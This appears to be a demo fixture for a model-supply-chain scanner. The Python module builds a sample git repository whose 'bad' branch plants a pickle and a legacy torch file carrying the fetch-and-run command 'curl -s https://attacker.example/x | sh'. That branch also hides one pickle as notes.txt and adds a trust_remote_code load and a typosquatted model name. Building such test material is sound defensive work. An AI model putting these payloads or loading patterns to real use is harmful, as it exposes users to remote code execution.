"""The sample git repository, made of real commits."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

from scanner.demo.hub_repositories import SampleHub
from scanner.demo.models import hostile_pickle, hostile_torch_legacy, safetensors

GOOD, BAD = "add-safetensors", "add-ranker"
BASE = "main"

_COMMAND = "curl -s https://attacker.example/x | sh"
_LOCK = {
    "name": "sample",
    "version": "1.0.0",
    "lockfileVersion": 3,
    "packages": {
        "": {"name": "sample", "version": "1.0.0", "dependencies": {"left-pad": "1.3.0"}},
        "node_modules/left-pad": {"version": "1.3.0", "license": "WTFPL"},
    },
}


_SERVE = """from transformers import AutoModel, pipeline

MODEL = "larkspur/ner"

model = AutoModel.from_pretrained(MODEL, revision="{commit}")
"""

_RANK = """
ranker = AutoModel.from_pretrained("larkspur/ner", trust_remote_code=True)
finder = pipeline("token-classification", model="larkspru/ner")
"""

_EMBED = """from sentence_transformers import SentenceTransformer

encoder = SentenceTransformer("larkspur/encoder", revision="{commit}")
"""


def build(folder: Path, hub: SampleHub) -> None:
    """Make the repository in an empty ``folder``: ``main`` and a branch for each of the two changes.

    Its source names commits of ``hub``.

    Raises:
        OSError: the folder cannot be written, or there is no git.
        subprocess.CalledProcessError: git refused.
    """
    _git(folder, "init", "--quiet", f"--initial-branch={BASE}")
    _commit(
        folder,
        "Serve the encoder",
        {
            "README.md": b"# Sample\n",
            "serve.py": _SERVE.format(commit=hub.reviewed).encode(),
            "models/encoder.safetensors": safetensors({"encoder.weight": [0.5, -0.5]}),
            "requirements.txt": b"safetensors==0.6.2\n",
        },
    )
    _git(folder, "checkout", "--quiet", "-b", GOOD)
    _commit(
        folder,
        "Add a head",
        {
            "models/head.safetensors": safetensors({"head.weight": [1.0, 2.0, 3.0]}),
            "embed.py": _EMBED.format(commit=hub.base).encode(),
        },
    )
    _git(folder, "checkout", "--quiet", "-b", BAD, BASE)
    (folder / "models/model.bin").symlink_to("/var/lib/models/latest.bin")
    _commit(
        folder,
        "Add the ranker",
        {
            "serve.py": (_SERVE.format(commit=hub.later) + _RANK).encode(),
            "notes.txt": hostile_pickle(_COMMAND),
            "models/ranker.pt": hostile_torch_legacy(_COMMAND),
            "models/head.safetensors": safetensors({"head.weight": [1.0, 2.0, 3.0]}),
            "requirements.txt": b"safetensors==0.6.2\ntorch==2.7.0\n",
            "package-lock.json": json.dumps(_LOCK, indent=2).encode() + b"\n",
        },
    )
    _git(folder, "checkout", "--quiet", BASE)


def _commit(folder: Path, message: str, files: dict[str, bytes]) -> None:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    _git(folder, "add", "--all")
    _git(folder, "commit", "--quiet", "--message", message)


def _git(folder: Path, *arguments: str) -> None:
    moment = "2026-01-02T03:04:05+00:00"
    environment = {
        "PATH": os.environ.get("PATH", os.defpath),
        "HOME": str(folder),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_AUTHOR_NAME": "Sample",
        "GIT_AUTHOR_EMAIL": "sample@example.org",
        "GIT_AUTHOR_DATE": moment,
        "GIT_COMMITTER_NAME": "Sample",
        "GIT_COMMITTER_EMAIL": "sample@example.org",
        "GIT_COMMITTER_DATE": moment,
    }
    subprocess.run(["git", *arguments], cwd=folder, env=environment, check=True, capture_output=True)
